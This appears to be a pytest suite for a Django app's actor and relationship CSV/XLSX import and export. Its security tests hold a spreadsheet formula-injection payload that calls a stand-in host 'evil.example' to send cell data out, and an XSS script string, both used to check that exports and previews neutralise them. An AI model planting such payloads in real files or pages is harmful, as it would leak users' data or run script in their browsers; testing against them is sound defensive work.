"""Import of actors and relationships (upload → mapping → preview → all or nothing), export."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from klimapakete import tables
from klimapakete.actors.importing import plan as imports
from klimapakete.actors.importing import services as services_imports
from klimapakete.actors.models import Actor, ActorChange, Relationship, Sector

HEADER = (
    "Name;Organisation;Funktion/Position;Bereich/Sektor;Haltung;Einfluss/Macht;"
    "Erreichbarkeit/wie leicht;Interessen;Tags;E-Mail;Telefon;Notizen;"
    "Art (Person/Organisation);Zuständig;Stufe/Ladder"
)


def url(team, name: str) -> str:
    return reverse(f"actors:{name}", kwargs={"team_slug": team.slug})


def upload(client, team, content: bytes, name="akteure.csv", what="actors", sheet=""):
    file = io.BytesIO(content)
    file.name = name
    return client.post(url(team, "import"), {"what": what, "file": file, "sheet": sheet})


def stored(client, team) -> dict | None:
    return client.session.get(f"actors_import:{team.pk}")


def map_columns(client, team, *, mapping=None, duplicates="skip", create_sectors=False):
    data = stored(client, team)
    mapping = data["mapping"] if mapping is None else mapping
    form = {f"col_{i}": target for i, target in enumerate(mapping)}
    form["duplicates"] = duplicates
    if create_sectors:
        form["create_sectors"] = "on"
    return client.post(url(team, "import_map"), form)


def run_import(client, team, content: bytes, name="akteure.csv", what="actors", **options):
    """The whole journey; returns the response to the final import POST."""
    response = upload(client, team, content, name=name, what=what)
    assert response.status_code == 302, response.content.decode()[:2000]
    response = map_columns(client, team, **options)
    assert response.status_code == 302, response.content.decode()[:3000]
    return client.post(url(team, "import_preview"))


def csv_bytes(*rows: str, header: str = HEADER, encoding="utf-8") -> bytes:
    return "\n".join([header, *rows]).encode(encoding)


# --- pure parts ----------------------------------------------------------------------


def test_mapping_guesses_german_and_english_headings():
    assert imports.guess_mapping(HEADER.split(";")) == [
        "name",
        "organisation",
        "position",
        "sector",
        "stance",
        "power",
        "ease",
        "interests",
        "tags",
        "email",
        "phone",
        "notes",
        "kind",
        "owner",
        "ladder",
    ]
    english = [
        "Full name",
        "Organization",
        "Role",
        "Sector",
        "Stance",
        "Influence",
        "Ease",
        "Comments",
        "Something else",
    ]
    assert imports.guess_mapping(english) == [
        "name",
        "organisation",
        "position",
        "sector",
        "stance",
        "power",
        "ease",
        "notes",
        "",
    ]
    assert imports.guess_mapping(["Von", "An", "Art", "Stärke", "Notiz"], "relationships") == [
        "source",
        "target",
        "kind",
        "strength",
        "note",
    ]


def test_each_target_goes_to_one_column_only():
    assert imports.guess_mapping(["Name", "Name", "Notizen", "Bemerkungen"]) == [
        "name",
        "",
        "notes",
        "",
    ]


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("2", 2),
        ("-2", -2),
        ("−1", -1),
        ("++", 2),
        ("+", 1),
        ("0", 0),
        ("-", -1),
        ("--", -2),
        ("stark dagegen", -2),
        ("Eher dafür", 1),
        ("neutral", 0),
        ("strongly for", 2),
        ("rather against", -1),
        ("3", None),
        ("vielleicht", None),
    ],
)
def test_stance_is_read_forgivingly(text, value):
    assert imports.parse_stance(text) == value


def test_scales_ladders_and_kinds_in_both_languages():
    assert imports.parse_scale("5") == 5 and imports.parse_scale("4,0") == 4
    assert imports.parse_scale("hoch") == 4 and imports.parse_scale("6") is None
    assert imports.parse_ladder("kontaktiert") == "contacted"
    assert imports.parse_ladder("Active in the alliance") == "active"
    assert imports.parse_ladder("3") == "conversation"
    assert imports.parse_kind("Organisation") == "organisation"
    assert imports.parse_kind("Verein") == "organisation"
    assert imports.parse_kind("P") == "person"


def test_latin1_semicolon_file_is_read():
    data = "Name;Bereich\nJörg Müller;Bürger:innen\nÄnne Öz;Stadtrat\n".encode("cp1252")
    table = tables.read_table(data, "a.csv")
    assert table.header == ["Name", "Bereich"]
    assert table.rows == [["Jörg Müller", "Bürger:innen"], ["Änne Öz", "Stadtrat"]]
    assert table.numbers == [2, 3]


def test_utf8_bom_comma_file_with_quoted_newlines_keeps_spreadsheet_row_numbers():
    data = '\ufeffName,Notes\n"Ada","line one\nline two"\n,\nBob,x\n'.encode()
    table = tables.read_table(data)
    assert table.header == ["Name", "Notes"]
    assert table.rows == [["Ada", "line one\nline two"], ["Bob", "x"]]
    assert table.numbers == [2, 4]


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "empty"),
        (b"\n\n  \n", "empty"),
        (b"Name;Haltung\n", "header_only"),
        (bytes(range(256)) * 40, "binary"),
        (b"\x00\x01\x02\x03" * 1000, "binary"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "old_excel"),
        (b"PK\x03\x04 not really a zip", "unreadable_xlsx"),
        (b"x" * (tables.Limits().max_bytes + 1), "too_large"),
        (b"Name\n" + b"a\n" * (tables.Limits().max_rows + 1), "too_many_rows"),
    ],
)
def test_unusable_files_are_refused_with_a_reason(data, code):
    with pytest.raises(tables.TableError) as caught:
        tables.read_table(data, "file.csv")
    assert caught.value.code == code


def test_title_and_merged_grouping_rows_above_the_header_are_skipped():
    """A typical team workbook: a title row and merged group cells above the header."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["Akteursliste LocalZero Musterstadt – Stand März 2025"])
    sheet.merge_cells("A1:D1")
    sheet.append([])
    sheet.append(["Kontakt", None, "Bewertung", None])
    sheet.merge_cells("A3:B3")
    sheet.merge_cells("C3:D3")
    sheet.append(["Name", "Bereich", "Haltung", "Einfluss"])
    sheet.append(["Petra Schmidt", "Stadtrat", "dafür", "4"])
    sheet.append(["Hans Weber", None, None, 5.0])
    buffer = io.BytesIO()
    workbook.save(buffer)
    table = tables.read_table(buffer.getvalue(), "akteure.xlsx")
    assert table.header == ["Name", "Bereich", "Haltung", "Einfluss"]
    assert table.rows == [["Petra Schmidt", "Stadtrat", "dafür", "4"], ["Hans Weber", "", "", "5"]]
    assert table.numbers == [5, 6]


def test_a_single_column_file_keeps_its_header():
    table = tables.read_table(b"Name\nAda\n\nBob\n")
    assert (table.header, table.rows, table.numbers) == (["Name"], [["Ada"], ["Bob"]], [2, 4])


def test_nul_bytes_and_control_characters_are_dropped():
    table = tables.read_table(b"Name;Notes\nAda\x00 Lovelace;a\x07b\n")
    assert table.rows == [["Ada Lovelace", "ab"]]


def test_export_apostrophe_is_removed_on_import_so_exports_round_trip():
    table = tables.read_table(b"Name\n'=HYPERLINK(\"x\")\n'plain\n")
    assert [r[0] for r in table.rows] == ['=HYPERLINK("x")', "'plain"]


# --- the journey through the views ---------------------------------------------------


def test_a_good_csv_imports_every_row_with_sectors_organisations_and_owners(
    member_client, personas
):
    team = personas["team"]
    member_client.get(url(team, "import"))  # creates the default sectors
    content = csv_bytes(
        "Stadtwerke Teststadt;;;Wirtschaft und Industrie;eher dafür;5;2;Wärmenetz;"
        "Energie, Wärme;;;;Organisation;coordinator@example.org;kontaktiert",
        "Jörg Müller;Stadtwerke Teststadt;Geschäftsführer;Wirtschaft und Industrie;+;4;3;;;"
        "jm@example.org;0151 123;Kennt den OB;Person;Mo Member;identifiziert",
        "Ada Neu;Sportverein Teststadt;Vorsitz;Bürger:innen;++;2;5;;;;;;;;",
    )
    response = run_import(member_client, team, content)
    assert response.status_code == 302 and response["Location"] == url(team, "list")
    actors = {a.name: a for a in Actor.objects.filter(team=team).select_related("sector")}
    assert set(actors) == {
        "Stadtwerke Teststadt",
        "Jörg Müller",
        "Ada Neu",
        "Sportverein Teststadt",
    }
    works = actors["Stadtwerke Teststadt"]
    assert works.kind == "organisation" and works.power == 5 and works.ease == 2
    assert works.stance == 1 and works.ladder == "contacted" and works.tags == "Energie, Wärme"
    assert works.owner == personas["coordinator"]
    assert works.sector.name == "Wirtschaft und Industrie"
    jorg = actors["Jörg Müller"]
    assert jorg.organisation == works and jorg.position == "Geschäftsführer"
    assert jorg.owner == personas["member"] and jorg.email == "jm@example.org"
    assert jorg.notes == "Kennt den OB" and jorg.stance == 1
    # an organisation named only in the organisation column is added as one
    club = actors["Sportverein Teststadt"]
    assert club.kind == "organisation" and actors["Ada Neu"].organisation == club
    assert actors["Ada Neu"].stance == 2 and actors["Ada Neu"].power == 2
    assert ActorChange.objects.filter(actor__team=team, created=True).count() == 4
    assert stored(member_client, team) is None  # the upload is gone
    # The message counts the rows and, besides them, the organisations added (issue 11.10).
    page = member_client.get(response["Location"]).content.decode()
    assert "3 neu" in page or "3 new" in page
    assert (
        "1 Organisation, die in der Datei genannt ist" in page
        or "1 organisation named in the file" in page
    )


def test_one_bad_row_imports_nothing_and_names_the_row(member_client, personas):
    team = personas["team"]
    content = csv_bytes(
        "Ada;;;;eher dafür;3;3;;;;;;;;",
        "Bob;;;;;3;3;;;;;;;;",
        "Cleo;;;;Mondschein;3;3;;;;;;;;",
        "Dan;;;;0;9;3;;;;;;;;",
    )
    upload(member_client, team, content)
    map_columns(member_client, team)
    preview = member_client.get(url(team, "import_preview"))
    html = preview.content.decode()
    assert 'id="import-errors"' in html and 'id="import-errors-heading"' in html
    errors = preview.context["errors"]
    assert len(errors) == 2
    assert errors[0].startswith("Zeile 4") or errors[0].startswith("Row 4")
    assert "Mondschein" in errors[0]
    assert "5" in errors[1] and "9" in errors[1]
    # Importing is all or nothing unless the team chooses to skip the rows with errors.
    assert 'name="on_error" value="all" checked' in html
    response = member_client.post(url(team, "import_preview"))
    assert response.status_code == 400
    assert not Actor.objects.filter(team=team).exists()
    assert stored(member_client, team) is not None  # they can fix the mapping and retry


def test_row_errors_are_in_english_for_english_users(member_client, personas):
    team = personas["team"]
    member_client.cookies["klimapakete_language"] = "en"
    personas["member"].__class__.objects.filter(pk=personas["member"].pk).update(language="en")
    upload(member_client, team, csv_bytes("Ada;;;;moonlight;3;3;;;;;;;;"))
    map_columns(member_client, team)
    errors = member_client.get(url(team, "import_preview")).context["errors"]
    assert errors[0].startswith("Row 2: stance “moonlight” is unknown — allowed:")


def test_unknown_sector_is_an_error_unless_new_sectors_are_wanted(member_client, personas):
    team = personas["team"]
    content = b"Name,Sector\nAda,Kunst und Kultur\nBob,kunst und kultur\n"
    upload(member_client, team, content)
    map_columns(member_client, team)
    errors = member_client.get(url(team, "import_preview")).context["errors"]
    assert len(errors) == 2 and "Kunst und Kultur" in errors[0]
    map_columns(member_client, team, create_sectors=True)
    preview = member_client.get(url(team, "import_preview"))
    assert preview.context["errors"] == []
    assert preview.context["new_sectors"] == ["Kunst und Kultur"]
    member_client.post(url(team, "import_preview"))
    sector = Sector.objects.get(team=team, name="Kunst und Kultur")
    assert set(sector.actors.values_list("name", flat=True)) == {"Ada", "Bob"}


def test_mapping_needs_a_name_column_and_one_column_per_field(member_client, personas):
    team = personas["team"]
    upload(member_client, team, b"Name,Other\nAda,x\n")
    response = map_columns(member_client, team, mapping=["", "notes"])
    assert response.status_code == 400
    response = map_columns(member_client, team, mapping=["name", "name"])
    assert response.status_code == 400
    assert response.context["form"].non_field_errors()


@pytest.mark.parametrize(
    ("policy", "names", "power"),
    [
        ("skip", ["Ada", "Bob"], 1),
        ("update", ["Ada", "Bob"], 5),
        ("create", ["Ada", "Bob", "ada"], 1),
    ],
)
def test_duplicates_are_skipped_updated_or_added(member_client, personas, policy, names, power):
    team = personas["team"]
    Actor.objects.create(team=team, name="Ada", power=1, notes="keep me")
    response = run_import(
        member_client, team, b"Name,Einfluss,Notizen\nada,5,\nBob,2,\n", duplicates=policy
    )
    assert response.status_code == 302
    assert sorted(Actor.objects.filter(team=team).values_list("name", flat=True)) == names
    first = Actor.objects.filter(team=team, name="Ada").order_by("pk").first()
    assert first.power == power and first.notes == "keep me"


def test_a_name_twice_in_the_file_is_flagged(member_client, personas):
    team = personas["team"]
    upload(member_client, team, b"Name\nAda\nBob\nada\n")
    map_columns(member_client, team)
    preview = member_client.get(url(team, "import_preview"))
    assert preview.context["counts"] == {"create": 2, "update": 0, "skip": 1}
    map_columns(member_client, team, duplicates="update")
    errors = member_client.get(url(team, "import_preview")).context["errors"]
    assert len(errors) == 1 and "ada" in errors[0] and "2" in errors[0]


def test_latin1_semicolon_upload_through_the_views(member_client, personas):
    team = personas["team"]
    member_client.get(url(team, "import"))
    content = csv_bytes(
        "Jörg Müller;;Bürgermeister;Stadtverwaltung;eher dagegen;5;1;Haushalt;;;;;;;",
        encoding="cp1252",
    )
    assert run_import(member_client, team, content).status_code == 302
    jorg = Actor.objects.get(team=team)
    assert jorg.name == "Jörg Müller" and jorg.sector.name == "Stadtverwaltung"
    assert jorg.stance == -1 and jorg.position == "Bürgermeister"


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"Name;Haltung\n",
        bytes(range(256)) * 50,
        b"PK\x03\x04garbage",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
    ],
    ids=["empty", "header-only", "binary", "broken-xlsx", "old-xls"],
)
def test_hostile_uploads_get_a_clear_message_not_an_error_page(member_client, personas, content):
    team = personas["team"]
    response = upload(member_client, team, content, name="x.csv")
    assert response.status_code == 200
    assert response.context["form"].errors["file"]
    assert stored(member_client, team) is None


def test_a_script_in_a_name_is_shown_escaped_and_stored_as_text(member_client, personas):
    team = personas["team"]
    upload(member_client, team, b"Name\n<script>alert(1)</script>\n")
    map_columns(member_client, team)
    html = member_client.get(url(team, "import_preview")).content.decode()
    assert "<script>alert(1)" not in html and "&lt;script&gt;alert(1)" in html
    member_client.post(url(team, "import_preview"))
    assert Actor.objects.get(team=team).name == "<script>alert(1)</script>"


def test_an_upload_is_discarded_after_an_hour(member_client, personas):
    team = personas["team"]
    upload(member_client, team, b"Name\nAda\n")
    session = member_client.session
    session[f"actors_import:{team.pk}"]["at"] -= 3601
    session.save()
    response = member_client.get(url(team, "import_preview"))
    assert response.status_code == 302 and response["Location"] == url(team, "import")
    assert stored(member_client, team) is None


def test_cancel_discards_the_upload(member_client, personas):
    team = personas["team"]
    upload(member_client, team, b"Name\nAda\n")
    assert stored(member_client, team) is not None
    member_client.post(url(team, "import_cancel"))
    assert stored(member_client, team) is None


# --- relationships -------------------------------------------------------------------


def test_relationships_import_all_or_nothing(member_client, personas):
    team = personas["team"]
    for name in ("Ada", "Bob", "Cleo"):
        Actor.objects.create(team=team, name=name)
    bad = b"Von;An;Art;St\xe4rke;Notiz\nAda;Bob;kennt;stark;Sportverein\nBob;Zoe;ber\xe4t;1;\n"
    upload(member_client, team, bad, what="relationships")
    map_columns(member_client, team)
    errors = member_client.get(url(team, "import_preview")).context["errors"]
    assert len(errors) == 1 and "Zoe" in errors[0]
    assert member_client.post(url(team, "import_preview")).status_code == 400
    assert not Relationship.objects.exists()

    good = "source name,target name,kind,strength,note\nAda,Bob,knows,3,Sportverein\n"
    good += "Bob,Ada,knows,1,same pair\nCleo,Ada,berät,,\n"
    response = run_import(member_client, team, good.encode(), what="relationships")
    assert response.status_code == 302
    rels = {(r.source.name, r.target.name, r.kind): r for r in Relationship.objects.all()}
    assert set(rels) == {("Ada", "Bob", "knows"), ("Cleo", "Ada", "advises")}
    assert rels["Ada", "Bob", "knows"].strength == 3
    assert rels["Cleo", "Ada", "advises"].strength == 2


# --- export --------------------------------------------------------------------------


def test_export_is_safe_against_formula_injection(member_client, personas):
    team = personas["team"]
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    Actor.objects.create(team=team, name=evil, notes="@SUM(1)", position="-2+3")
    csv_text = _body(member_client.get(url(team, "export_csv"))).decode("utf-8-sig")
    assert "'" + evil.replace('"', '""') in csv_text
    assert "'@SUM(1)" in csv_text and "'-2+3" in csv_text

    response = member_client.get(url(team, "export_xlsx"))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    content = _body(response)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cell = sheet.cell(row=2, column=1)
    assert cell.data_type == "s" and cell.value == "'" + evil


def test_export_has_german_headings_for_german_users(member_client, personas):
    team = personas["team"]
    Actor.objects.create(team=team, name="Ada")
    text = _body(member_client.get(url(team, "export_csv"))).decode("utf-8-sig")
    header = text.splitlines()[0]
    # German Excel expects semicolons; headings go through the German catalogue
    assert header.startswith("Name;") and ";E-Mail-Adresse;" in header


def test_export_respects_the_list_filter(member_client, personas):
    team = personas["team"]
    Actor.objects.create(team=team, name="Ada", kind="person")
    Actor.objects.create(team=team, name="Verein", kind="organisation")
    text = _body(member_client.get(url(team, "export_csv") + "?kind=organisation"))
    text = text.decode("utf-8-sig")
    assert "Verein" in text and "Ada" not in text


def test_xlsx_round_trip_export_then_import(member_client, personas):
    team = personas["team"]
    member_client.get(url(team, "import"))
    sector = team.sectors.first()
    org = Actor.objects.create(team=team, name="Stadtwerke", kind="organisation", sector=sector)
    Actor.objects.create(
        team=team,
        name="=Ada",
        organisation=org,
        position="Chefin",
        sector=sector,
        stance=-2,
        power=5,
        ease=1,
        ladder="committed",
        tags="a, b",
        owner=personas["member"],
        email="ada@example.org",
        phone="+49 1",
        notes="Zeile 1\nZeile 2",
        is_team_contact=True,
        contact_rhythm_days=30,
        interests="Wärme",
    )
    fields = [
        "name",
        "kind",
        "organisation__name",
        "position",
        "sector__name",
        "stance",
        "power",
        "ease",
        "ladder",
        "tags",
        "owner_id",
        "email",
        "phone",
        "notes",
        "is_team_contact",
        "contact_rhythm_days",
        "interests",
    ]
    before = sorted(Actor.objects.filter(team=team).values_list(*fields))
    content = _body(member_client.get(url(team, "export_xlsx")))
    Actor.objects.filter(team=team).delete()
    response = run_import(member_client, team, content, name="export.xlsx")
    assert response.status_code == 302
    assert sorted(Actor.objects.filter(team=team).values_list(*fields)) == before

    # relationships too
    ada = Actor.objects.get(team=team, name="=Ada")
    Relationship.objects.create(
        team=team,
        source=ada,
        target=ada.organisation,
        kind="works_for",
        strength=3,
        note="+seit 2020",
    )
    content = _body(member_client.get(url(team, "export_relationships_xlsx")))
    Relationship.objects.all().delete()
    run_import(member_client, team, content, name="rel.xlsx", what="relationships")
    rel = Relationship.objects.get()
    assert (rel.source, rel.target, rel.kind, rel.strength, rel.note) == (
        ada,
        ada.organisation,
        "works_for",
        3,
        "+seit 2020",
    )


def test_a_chosen_sheet_of_a_workbook_is_read(member_client, personas):
    team = personas["team"]
    workbook = openpyxl.Workbook()
    workbook.active.title = "Notes"
    workbook.active.append(["nothing", "here"])
    people = workbook.create_sheet("Akteure")
    people.append(["Name", "Einfluss"])
    people.append(["Ada", 4.0])
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = upload(member_client, team, buffer.getvalue(), name="a.xlsx", sheet="Nope")
    assert "Nope" in str(response.context["form"].errors["file"])
    response = upload(member_client, team, buffer.getvalue(), name="a.xlsx", sheet="Akteure")
    assert response.status_code == 302
    map_columns(member_client, team)
    member_client.post(url(team, "import_preview"))
    assert Actor.objects.get(team=team).power == 4


# --- access and speed ----------------------------------------------------------------


@pytest.mark.parametrize("name", ["import", "export_csv", "export_xlsx", "import_preview"])
def test_outsiders_get_404(outsider_client, personas, name):
    assert outsider_client.get(url(personas["team"], name)).status_code == 404


def test_an_upload_stays_with_its_team(coordinator_client, personas):
    """A pending upload of one team is not continued in another team of the same user."""
    from klimapakete.teams.models import Membership

    team, other = personas["team"], personas["other_team"]
    Membership.objects.create(team=other, user=personas["coordinator"], role="member")
    upload(coordinator_client, team, b"Name\nAda\n")
    response = coordinator_client.get(url(other, "import_preview"))
    assert response.status_code == 302 and response["Location"] == url(other, "import")


def _rows(count: int) -> bytes:
    lines = [
        f"Person {n};Org {n % 7};Rolle;Stadtrat;{n % 5 - 2};{n % 5 + 1};3;x;a, b;"
        f"p{n}@example.org;;;Person;member@example.org;kontaktiert"
        for n in range(count)
    ]
    return csv_bytes(*lines)


def _import_queries(client, team, count: int) -> int:
    upload(client, team, _rows(count))
    map_columns(client, team)
    with CaptureQueriesContext(connection) as queries:
        response = client.post(url(team, "import_preview"))
    assert response.status_code == 302
    return len(queries)


def test_import_runs_a_constant_number_of_queries(member_client, personas, monkeypatch):
    team = personas["team"]
    member_client.get(url(team, "import"))
    # SQLite since 3.32 takes 32,766 parameters; Django assumes 999 and splits bulk
    # inserts into batches of ~45 actors. Lift that so only our own queries are counted.
    monkeypatch.setattr(connection.features, "max_query_params", 32766)
    small = _import_queries(member_client, team, 50)
    Actor.objects.filter(team=team).delete()
    large = _import_queries(member_client, team, 500)
    assert small == large
    assert Actor.objects.filter(team=team).count() == 507


def test_five_thousand_actors_import_in_one_go(personas):
    # The time it takes is measured by `make bench`, not asserted here.
    team = personas["team"]
    services_imports.actor_context(team=team)
    team.sectors.get_or_create(name="Stadtrat")
    table = tables.read_table(_rows(5000))
    mapping = imports.guess_mapping(table.header)
    services_imports.actors_import(
        team=team,
        user=personas["member"],
        table=table,
        mapping=mapping,
        create_sectors=False,
        duplicates="skip",
    )
    assert Actor.objects.filter(team=team).count() == 5007


def test_utf16_unicode_text_and_overlong_csv_fields():
    table = tables.read_table("Name\tHaltung\nÄnne\t++\n".encode("utf-16"))
    assert table.rows == [["Änne", "++"]]
    with pytest.raises(tables.TableError) as caught:
        tables.read_table(b'Name\n"' + b"a" * 200_000 + b'"\n')
    assert caught.value.code == "cell_too_long"


def test_the_upload_page_labels_the_file_input_and_links_the_exports(member_client, personas):
    team = personas["team"]
    html = member_client.get(url(team, "import")).content.decode()
    assert '<label for="id_file"' in html and 'type="file"' in html
    assert url(team, "export_xlsx") in html and url(team, "export_relationships_csv") in html


def test_first_and_last_name_columns_are_joined_into_the_name(member_client, personas):
    """Many team lists split names into "Vorname" and "Nachname" columns."""
    team = personas["team"]
    content = "Vorname;Nachname;Funktion\nPetra;Schmidt;Ratsfrau\n;Weber;\n".encode("cp1252")
    response = upload(member_client, team, content)
    assert response.status_code == 302
    assert stored(member_client, team)["mapping"] == ["first_name", "name", "position"]
    assert map_columns(member_client, team).status_code == 302
    preview = member_client.get(url(team, "import_preview"))
    assert "Petra Schmidt" in preview.text
    member_client.post(url(team, "import_preview"))
    assert sorted(team.actors.values_list("name", flat=True)) == ["Petra Schmidt", "Weber"]
    # Updating by name works with the joined name, too.
    content = "Vorname;Nachname;Funktion\nPetra;Schmidt;Bürgermeisterin\n".encode("cp1252")
    run_import(member_client, team, content, duplicates="update")
    assert team.actors.get(name="Petra Schmidt").position == "Bürgermeisterin"


def test_von_nach_headings_are_recognised_for_relationships():
    header = ["Von", "Nach", "Beziehung", "Stärke"]
    assert imports.guess_mapping(header, "relationships") == [
        "source",
        "target",
        "kind",
        "strength",
    ]


def test_formulas_and_lost_letters_are_imported_as_text_with_a_warning(member_client, personas):
    """A cell starting with "=" is kept as text and a "?" where a cp1252 file lost a letter
    is named by its row — both in the preview, before anything is imported."""
    team = personas["team"]
    content = "Name;Notizen\n=Stadtwerke;=1+1\nGro?e Kreisstadt;\nAda;gut\n".encode("cp1252")
    assert upload(member_client, team, content).status_code == 302
    assert map_columns(member_client, team).status_code == 302
    preview = member_client.get(url(team, "import_preview"))
    warnings = " ".join(preview.context["warnings"])
    assert "„=“" in warnings or "“=”" in warnings
    assert "Zeile 2" in warnings and "Zeile 3" in warnings
    member_client.post(url(team, "import_preview"))
    names = set(team.actors.values_list("name", flat=True))
    assert names == {"=Stadtwerke", "Gro?e Kreisstadt", "Ada"}
    assert team.actors.get(name="=Stadtwerke").notes == "=1+1"


def _body(response) -> bytes:
    """Exports stream (a large map is never one string in memory)."""
    assert response.streaming
    return b"".join(response.streaming_content)
